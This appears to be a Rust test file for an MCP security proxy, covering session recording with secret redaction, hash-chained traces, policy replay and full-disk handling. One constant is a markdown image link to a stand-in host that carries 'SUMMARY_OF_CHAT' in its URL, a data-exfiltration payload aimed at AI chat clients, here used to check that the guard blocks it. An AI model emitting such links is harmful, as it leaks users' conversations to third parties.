//! Sessions that are recorded, and played again.

use serde_json::{Value, json};

use crate::harness::{World, warden_bin};
use crate::wrap::{Wrapped, evil, script};

/// A key of the right form that was never one.
const TOKEN: &str = "AKIAQ3EGR7PZ4WNTYXKD";
const LINK: &str = "![s](https://img.badhost.test/p.png?d=SUMMARY_OF_CHAT)";

/// Records a session with an edit, a block and a secret.
fn record(world: &World, options: &[&str]) -> Option<String> {
    let server = evil("honest")?;
    let options = [&["--record", "s.trace"], options].concat();
    let mut s = Wrapped::start(world, &options, &server);
    assert!(
        s.ask(0, "initialize", &json!({"protocolVersion": "2025-11-25"}))["result"].is_object()
    );
    assert!(s.ask(1, "tools/list", &json!({}))["result"].is_object());
    s.call(2, "echo", "a\u{1b}[2Jb");
    s.call(3, "echo", LINK);
    s.call(4, "echo", &format!("the key is {TOKEN}"));
    s.call(5, "echo", "hello");
    assert_eq!(s.end().0, Some(0));
    Some(std::fs::read_to_string(world.project().join("s.trace")).expect("the trace"))
}

fn inspect(world: &World, more: &[&str], code: i32) -> Value {
    world.run(&[&["inspect", "s.trace", "--json"], more].concat()).expect(code).json()
}

#[test]
fn a_session_is_recorded_without_its_secrets_and_judged_alike_again() {
    let world = World::new();
    let Some(text) = record(&world, &["--id", "files", "--sarif", "w.sarif"]) else { return };
    assert!(!text.contains(TOKEN), "the secret is in the trace");
    let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).expect("JSON")).collect();
    assert_eq!(lines[0]["trace"], "warden.trace/1");
    assert_eq!(lines[0]["id"], "files");
    assert_eq!(lines[1]["dir"], "c>s");
    for (n, pair) in lines.windows(2).enumerate() {
        assert_eq!(pair[0]["n"], n);
        assert_eq!(pair[0]["hash"], pair[1]["prev"], "line {n}");
    }
    let redacted = lines.iter().filter(|l| l["redactions"].is_array()).count();
    assert_eq!(redacted, 2, "in the call and in its result");
    #[cfg(unix)]
    {
        let meta = std::fs::metadata(world.project().join("s.trace")).expect("metadata");
        assert_eq!(std::os::unix::fs::PermissionsExt::mode(&meta.permissions()) & 0o777, 0o600);
    }
    let replayed = inspect(&world, &["--sarif", "i.sarif"], 1);
    for file in ["w.sarif", "i.sarif"] {
        let text = std::fs::read_to_string(world.project().join(file)).expect(file);
        let sarif: Value = serde_json::from_str(&text).expect("JSON");
        let results = sarif["runs"][0]["results"].as_array().expect("results");
        let found = |rule: &str| results.iter().any(|r| r["ruleId"].as_str() == Some(rule));
        assert!(results.len() >= 2, "{file}: {results:#?}");
        assert!(results.iter().all(|r| r["ruleId"].as_str().is_some()), "{file}");
        assert!(!found("") && !text.contains(TOKEN), "{file}");
    }
    assert_eq!(replayed["chain"], "whole");
    assert_eq!(replayed["changes"], json!([]), "{replayed:#}");
    let whats: Vec<&str> = replayed["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter_map(|e| e["what"].as_str())
        .collect();
    assert_eq!(whats, ["admitted", "edited", "blocked"]);
}

#[test]
fn another_policy_shows_what_it_would_change() {
    let world = World::new();
    let Some(_) = record(&world, &[]) else { return };
    let off = inspect(&world, &["--results", "off"], 0);
    let changes = off["changes"].as_array().expect("changes");
    assert_eq!(changes.len(), 2, "{changes:#?}");
    assert!(changes[1]["was"][0].as_str().is_some_and(|w| w.starts_with("blocked: WRD-RT-")));
    assert_eq!(changes[1]["now"], json!([]));
    world.write("p.toml", "[[call]]\ntool = \"echo\"\naction = \"deny\"\n");
    let denied = inspect(&world, &["--policy", "p.toml"], 1);
    let refused = denied["events"].as_array().expect("events").iter();
    assert_eq!(refused.filter(|e| e["what"] == "call-refused").count(), 4);
    let run = world.run(&["inspect", "s.trace", "--policy", "p.toml"]).expect(1);
    assert!(
        run.stdout.contains("CHANGED") && run.stdout.contains("WRD-POL-CALL"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_trace_that_was_touched_or_is_none_is_told() {
    let world = World::new();
    let Some(text) = record(&world, &[]) else { return };
    // A trace that is there is not written over.
    let server = evil("honest").expect("built");
    let again = ["wrap", "--record", "s.trace", "--"].into_iter();
    let again: Vec<&str> = again.chain(server.iter().map(String::as_str)).collect();
    world.run(&again).expect(4);
    let kept: Vec<&str> = text.lines().filter(|l| !l.contains("badhost")).collect();
    world.write("s.trace", &(kept.join("\n") + "\n"));
    let run = world.run(&["inspect", "s.trace", "--results", "off"]).expect(3);
    assert!(run.stderr.contains("the chain is broken at line"), "{}", run.stderr);
    world.write("s.trace", "no trace\n");
    let run = world.run(&["inspect", "s.trace"]).expect(3);
    assert!(run.stderr.contains("line 1"), "{}", run.stderr);
    world.run(&["inspect", "missing.trace"]).expect(4);
    world.run(&["inspect"]).expect(2);
}

#[test]
fn a_trace_of_mcp_warden_is_looked_at() {
    let world = World::new();
    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "x"}});
    let result = json!({"jsonrpc": "2.0", "id": 1,
        "result": {"content": [{"type": "text", "text": LINK}]}});
    let lines = format!(
        "{}\n{}\n",
        json!({"direction": "c2s", "frame": call}),
        json!({"direction": "s2c", "frame": result})
    );
    world.write("s.trace", &lines);
    let replayed = inspect(&world, &[], 1);
    assert_eq!(replayed["chain"], "none");
    assert_eq!(replayed["events"][0]["what"], "blocked");
    assert_eq!(replayed["events"][0]["n"], 2);
    world.write("s.trace", &lines.replace(LINK, "nothing"));
    inspect(&world, &[], 0);
}

/// Runs the guard in a shell that lets no file grow beyond 8 blocks.
fn with_a_full_disk(world: &World, options: &str) -> (Option<i32>, String, String) {
    let Some(server) = evil("honest") else { return (None, String::new(), String::new()) };
    let wrapped = format!(
        "trap '' XFSZ\nulimit -f 8\nexec {} wrap --record s.trace {options} -- {}\n",
        warden_bin().display(),
        server.join(" ")
    );
    let command = script(world, "full.sh", &wrapped);
    let mut input = String::new();
    for id in 0..40 {
        let call = json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
            "params": {"name": "echo", "arguments": {"text": "word ".repeat(100)}}});
        input.push_str(&format!("{call}\n"));
    }
    let mut c = std::process::Command::new(&command[0]);
    c.args(&command[1..]).current_dir(world.project()).env("HOME", world.home());
    let run = assert_cmd::Command::from_std(c).write_stdin(input).output().expect("runs");
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (run.status.code(), text(&run.stdout), text(&run.stderr))
}

#[test]
fn a_full_disk_ends_the_trace_and_not_the_session() {
    let world = World::new();
    let (code, stdout, stderr) = with_a_full_disk(&world, "--id files");
    let Some(code) = code else { return };
    assert_eq!(code, 0, "{stderr}");
    assert!(stderr.contains("the trace is not whole"), "{stderr}");
    let answered = stdout.lines().filter(|l| l.contains("\"result\"")).count();
    assert_eq!(answered, 40, "no answer is lost");
}

#[test]
fn a_full_disk_ends_a_strict_session() {
    let world = World::new();
    let (code, stdout, stderr) = with_a_full_disk(&world, "--id files --strict");
    if code.is_none() && stderr.is_empty() {
        return;
    }
    assert_eq!(code, Some(3), "{stderr}");
    assert!(stderr.contains("the trace is not whole"), "{stderr}");
    let answer = |l: &str| serde_json::from_str::<Value>(l).expect("JSON")["id"].as_u64();
    let mut answered: Vec<_> = stdout.lines().map(answer).collect();
    answered.sort_unstable();
    let count = answered.len();
    answered.dedup();
    assert_eq!(answered.len(), count, "no call is answered twice");
}
